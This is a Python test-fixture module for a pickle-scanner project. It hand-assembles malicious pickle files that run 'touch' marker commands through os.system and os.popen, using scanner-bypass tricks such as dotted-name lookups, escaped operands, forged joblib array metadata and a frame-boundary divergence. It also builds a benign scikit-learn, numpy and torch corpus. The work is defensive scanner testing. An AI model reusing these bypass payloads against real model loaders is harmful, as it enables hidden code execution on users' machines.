"""The pickles mstore's verdict is measured on: issue 21's attack classes, the peers' own bypass corpora, and
benign models (scikit-learn estimators, pipelines, joblib with and without compression, numpy object
arrays, a torch state dict). Used by tests/test_pickle_attacks.py, tests/test_scanner_corpus.py and
scripts/compare_scanners.py.

The attack files are written opcode by opcode (the joblib wrappers via pickle.dumps of joblib's own class,
which is data). Nothing here loads a pickle; the attack tests load them only in a child process.
"""

from __future__ import annotations

import importlib
import io
import json
import pickle
import struct
import warnings
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

DATA = Path(__file__).resolve().parent / "data"
PEERS = DATA / "peer_corpus"
TORCH_STATE_DICT = DATA / "benign" / "torch_linear_state_dict.pt"  # torch.save(nn.Linear(4, 2).state_dict())


@dataclass
class Entry:
    """One corpus file: `group` is the attack class or corpus it comes from, `loader` what reads it."""

    name: str
    group: str
    path: Path
    loader: str = "pickle"


# -- issue 21's attack classes --------------------------------------------------------------------------


def sbu(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def system_call(marker: Path) -> bytes:
    """Opcodes (no PROTO, no STOP) that call os.system('touch MARKER') and leave its result on the stack."""
    cmd = f"touch {marker}".encode()
    return b"cos\nsystem\nX" + struct.pack("<I", len(cmd)) + cmd + b"\x85R"


def wrapper(dtype: str, shape: tuple[int, ...]) -> bytes:
    """A real joblib NumpyArrayWrapper record, built and BUILT (protocol 2, no frame), without its STOP."""
    import numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper

    record = NumpyArrayWrapper(np.ndarray, shape, "C", np.dtype(dtype), False, None)
    return pickle.dumps(record, protocol=2)[:-1]


def dotted_name(marker: Path) -> bytes:
    """Protocol 4 walks `os.popen` as attributes of the allowed-looking module joblib.numpy_pickle."""
    cmd = f"touch {marker}"
    return b"\x80\x04" + sbu("joblib.numpy_pickle") + sbu("os.popen") + b"\x93" + sbu(cmd) + b"\x85R."


def skipped_bytes_run_under_pickle_load(marker: Path) -> bytes:
    """joblib would skip the 'array bytes' after the wrapper; pickle.load runs them as opcodes."""
    payload = system_call(marker) + b"."
    return wrapper("u1", (len(payload),)) + payload + b"."


def nested_object_array(marker: Path) -> bytes:
    """An object array's nested pickle is read by joblib with a plain unpickler: a wrapper inside it
    skips nothing, so its 'array bytes' run."""
    payload = system_call(marker) + b"."
    inner = b"\x80\x02" + wrapper("u1", (len(payload),))[2:] + payload
    return wrapper("O", (1,)) + inner + b"."


def elsize_from_state(marker: Path) -> bytes:
    """numpy ignores a pickled element size for f8: joblib reads 8 x 2 bytes, not 1 x 2 as the state says.
    A walker trusting the state hides the payload inside a BINBYTES that joblib never reads."""
    head = wrapper("f8", (2,))
    forged = head.replace(b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00t", b"K\x01K\x01K\x00t")  # elsize 1
    assert forged != head
    body = system_call(marker)
    filler = b"\x00" * 2 + b"B" + struct.pack("<I", 9 + len(body)) + b"\x00" * 9  # 16 bytes of "array"
    return forged + filler + body + b"."


def base0_int_literal(marker: Path) -> bytes:
    """An INT operand in hex: the unpickler reads it (int(x, 0)); a walker that rejects it stops early."""
    return b"\x80\x02I0x1f\n0" + system_call(marker) + b"."


def escaped_string_operands(marker: Path) -> bytes:
    """STRING operands are backslash-escaped: 'os.sys\\x74em' is os.system (under joblib.numpy_pickle)."""
    cmd = f"touch {marker}".encode()
    return b"\x80\x04S'joblib.numpy_pickle'\nS'os.sys\\x74em'\n\x93S'" + cmd + b"'\n\x85R."


def trusted_package_writer(marker: Path) -> bytes:
    """A whole package trusted: joblib.dump writes anywhere."""
    return (
        b"\x80\x02cjoblib\ndump\nX\x01\x00\x00\x00xX"
        + struct.pack("<I", len(str(marker)))
        + str(marker).encode()
        + b"\x86R."
    )


def legacy_sidecar(marker: Path) -> bytes:
    """joblib's legacy NDArrayWrapper loads a sidecar .npy with allow_pickle=True (the sidecar is written
    by the child process, as an object array whose element reduces to os.system)."""
    import numpy as np
    from joblib.numpy_pickle_compat import NDArrayWrapper

    return pickle.dumps(NDArrayWrapper("side.npy", np.ndarray, False), protocol=2)


ATTACKS: dict[str, tuple[Callable[[Path], bytes], str]] = {
    "dotted_name": (dotted_name, "pickle"),
    "skipped_bytes_run_under_pickle_load": (skipped_bytes_run_under_pickle_load, "pickle"),
    "nested_object_array": (nested_object_array, "joblib"),
    "elsize_from_state": (elsize_from_state, "joblib"),
    "base0_int_literal": (base0_int_literal, "pickle"),
    "escaped_string_operands": (escaped_string_operands, "pickle"),
    "trusted_package_writer": (trusted_package_writer, "pickle"),
    "legacy_sidecar": (legacy_sidecar, "joblib"),
}


def frame_boundary_divergence(marker: Path) -> bytes:
    """fickling's frame-boundary class (cpython issue 154848) in a form mstore's walker misses: a FRAME that
    declares 2 bytes holds a BINBYTES of 0x107. The walker reads the BINBYTES as data; CPython's C unpickler,
    reading a file whose frame starts just before its 128 KiB read buffer ends, runs the GLOBAL / REDUCE
    buried in it (the pure-Python unpickler raises "pickle exhausted before end of frame" instead). The
    padding is a BINUNICODE (skipped by the walker, not refused as a long UNICODE line is)."""
    hidden = system_call(marker)
    pad = 131052  # puts the FRAME where the C unpickler's buffered read of the file ends
    return (
        b"\x80\x05N"
        + b"X"
        + struct.pack("<I", pad)
        + b"a" * pad
        + b"0("
        + b"\x95"
        + struct.pack("<Q", 2)
        + b"B\x07\x01\x00\x00"
        + b"\x00\x00"
        + (hidden + b"(").ljust(256 + 5, b"N")
        + b"1."
    )


# Found while building the comparison (scripts/compare_scanners.py); tests/test_scanner_corpus.py proves
# each is a real exploit and holds the verdict it should get as an expected failure until the walker has it.
EXTRA_ATTACKS: dict[str, tuple[Callable[[Path], bytes], str]] = {
    "frame_boundary_divergence": (frame_boundary_divergence, "pickle"),
}


def attack_corpus(folder: Path, extra: bool = False) -> list[Entry]:
    """One file per issue 21 attack class, each in its own folder (its payload would touch PWNED there)."""
    out = []
    for name, (build, loader) in (ATTACKS | EXTRA_ATTACKS if extra else ATTACKS).items():
        (folder / name).mkdir(parents=True, exist_ok=True)
        path = folder / name / "model.pkl"
        path.write_bytes(build(folder / name / "PWNED"))
        out.append(Entry(name, "issue 21", path, loader))
    return out


# -- the peers' corpora (tests/data/peer_corpus, regenerated by scripts/gen_peer_corpus.py) ----------------


def peer_corpus() -> list[Entry]:
    """Every file of picklescan's, modelscan's and fickling's test corpora that their tests expect flagged."""
    manifest = json.loads((PEERS / "MANIFEST.json").read_text())
    return [Entry(m["file"], m["corpus"], PEERS / m["file"]) for m in manifest]


# -- benign models ---------------------------------------------------------------------------------------

# Estimators that fit on the tiny data below in under 0.1 s (`scripts/compare_scanners.py --list-fast`
# measures them): the test's benign subset, named by import path (sklearn.utils.all_estimators imports all
# of scikit-learn, seconds), and a fixed list, so the test does not depend on the machine's speed.
FAST_ESTIMATORS = [
    "sklearn.naive_bayes.BernoulliNB",
    "sklearn.preprocessing.Binarizer",
    "sklearn.cluster.Birch",
    "sklearn.tree.DecisionTreeClassifier",
    "sklearn.tree.DecisionTreeRegressor",
    "sklearn.dummy.DummyClassifier",
    "sklearn.dummy.DummyRegressor",
    "sklearn.tree.ExtraTreeClassifier",
    "sklearn.preprocessing.FunctionTransformer",
    "sklearn.naive_bayes.GaussianNB",
    "sklearn.preprocessing.KBinsDiscretizer",
    "sklearn.cluster.KMeans",
    "sklearn.neighbors.KNeighborsClassifier",
    "sklearn.neighbors.KNeighborsRegressor",
    "sklearn.linear_model.ElasticNet",
    "sklearn.linear_model.Lasso",
    "sklearn.discriminant_analysis.LinearDiscriminantAnalysis",
    "sklearn.linear_model.LinearRegression",
    "sklearn.linear_model.LogisticRegression",
    "sklearn.preprocessing.MaxAbsScaler",
    "sklearn.preprocessing.MinMaxScaler",
    "sklearn.naive_bayes.MultinomialNB",
    "sklearn.preprocessing.Normalizer",
    "sklearn.preprocessing.OneHotEncoder",
    "sklearn.decomposition.PCA",
    "sklearn.preprocessing.PolynomialFeatures",
    "sklearn.discriminant_analysis.QuadraticDiscriminantAnalysis",
    "sklearn.linear_model.Ridge",
    "sklearn.impute.SimpleImputer",
    "sklearn.preprocessing.StandardScaler",
]


def tiny_data() -> tuple[Any, Any, Any]:
    import numpy as np

    rng = np.random.default_rng(0)
    X = rng.normal(size=(40, 4))
    return X, (X[:, 0] > 0).astype(int), X[:, 1]


def fit(cls: type, kind: str) -> Any | None:
    """`cls()` fitted on the tiny data (as a classifier, regressor or unsupervised), or None if it cannot be."""
    import numpy as np

    X, y, yr = tiny_data()
    target = y if kind == "classifier" else yr if kind == "regressor" else None
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            est = cls()
        except Exception:
            return None
        for data, t in ((X, target), (np.abs(X), target), (X, y), (np.abs(X), y)):
            try:
                return est.fit(data, t)
            except Exception:
                continue
    return None


def estimators(paths: list[str] | None = None) -> Iterator[tuple[str, str, type]]:
    """(name, kind, class) of every scikit-learn estimator, each once, or of those named by import path."""
    if paths is not None:
        from sklearn.base import is_classifier, is_regressor

        for path in paths:
            module, _, name = path.rpartition(".")
            cls = getattr(importlib.import_module(module), name)
            est = cls()
            yield name, "classifier" if is_classifier(est) else "regressor" if is_regressor(est) else "other", cls
        return
    from sklearn.utils import all_estimators

    seen = set()
    for kind in ("classifier", "regressor", "transformer", "cluster", None):
        for name, cls in all_estimators(type_filter=kind):
            if name not in seen:
                seen.add(name)
                yield name, kind or "other", cls


def pipelines() -> list[tuple[str, Any]]:
    import numpy as np
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline, make_pipeline, make_union
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    X, y, _ = tiny_data()
    texts = [f"w{i % 7} v{i % 3}" for i in range(40)]
    mixed = np.column_stack([X[:, :2], (X[:, 2] > 0).astype(int)])
    columns = ColumnTransformer([("num", StandardScaler(), [0, 1]), ("cat", OneHotEncoder(), [2])])
    return [
        ("pipeline_tfidf_logreg", Pipeline([("t", TfidfVectorizer()), ("c", LogisticRegression())]).fit(texts, y)),
        (
            "pipeline_union_logreg",
            make_pipeline(make_union(StandardScaler(), StandardScaler()), LogisticRegression()).fit(X, y),
        ),
        ("pipeline_columns_forest", make_pipeline(columns, RandomForestClassifier(n_estimators=5)).fit(mixed, y)),
    ]


def numpy_values() -> list[tuple[str, Any]]:
    import numpy as np

    return [
        ("numpy_object_array", np.array([1, "x", None, 2.5, (1, 2)], dtype=object)),
        ("numpy_object_array_2d", np.array([[{"a": 1}, [1, 2]], ["s", 3]], dtype=object)),
        (
            "numpy_arrays_in_dict",
            {"w": np.arange(12.0).reshape(3, 4), "labels": np.array(["a", "b"]), "i": np.int64(3)},
        ),
        ("numpy_structured", np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8")])),
    ]


def dump_benign(folder: Path, name: str, obj: Any, compressed: bool = False) -> list[Entry]:
    """`obj` written as a plain pickle and with joblib (and, if asked, joblib with every compressor)."""
    import joblib

    folder.mkdir(parents=True, exist_ok=True)
    out = []
    path = folder / f"{name}.pkl"
    path.write_bytes(pickle.dumps(obj, protocol=pickle.DEFAULT_PROTOCOL))
    out.append(Entry(path.name, "pickle.dump", path))
    path = folder / f"{name}.joblib"
    joblib.dump(obj, path)
    out.append(Entry(path.name, "joblib.dump", path, "joblib"))
    if compressed:
        for compress, suffix in (
            (3, "z"),
            (("gzip", 3), "gz"),
            (("bz2", 3), "bz2"),
            (("xz", 3), "xz"),
            (("lzma", 3), "lzma"),
        ):
            path = folder / f"{name}.joblib.{suffix}"
            joblib.dump(obj, path, compress=compress)
            out.append(Entry(path.name, "joblib.dump(compress=)", path, "joblib"))
    return out


def benign_corpus(
    folder: Path, names: list[str] | None = None, skipped: list[str] | None = None, others: bool = True
) -> list[Entry]:
    """The benign corpus: every estimator (or those named by import path) that fits, and (`others`)
    pipelines, numpy values and the torch state dict."""
    out: list[Entry] = []
    for name, kind, cls in estimators(names):
        est = fit(cls, kind)
        if est is None:
            if skipped is not None:
                skipped.append(name)
            continue
        try:
            out += dump_benign(
                folder / "sklearn", name, est, compressed=name in ("LogisticRegression", "RandomForestClassifier")
            )
        except Exception:  # an estimator that cannot be pickled (a lambda inside): not part of the corpus
            if skipped is not None:
                skipped.append(name)
    if others:
        for name, obj in pipelines() + numpy_values():
            out += dump_benign(folder / "other", name, obj, compressed=True)
        out.append(Entry(TORCH_STATE_DICT.name, "torch.save", TORCH_STATE_DICT, "torch"))
    return out


def torch_state_dict_bytes() -> bytes:
    """What TORCH_STATE_DICT holds, made again (needs torch)."""
    import torch

    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.save(torch.nn.Linear(4, 2).state_dict(), buf)
    return buf.getvalue()
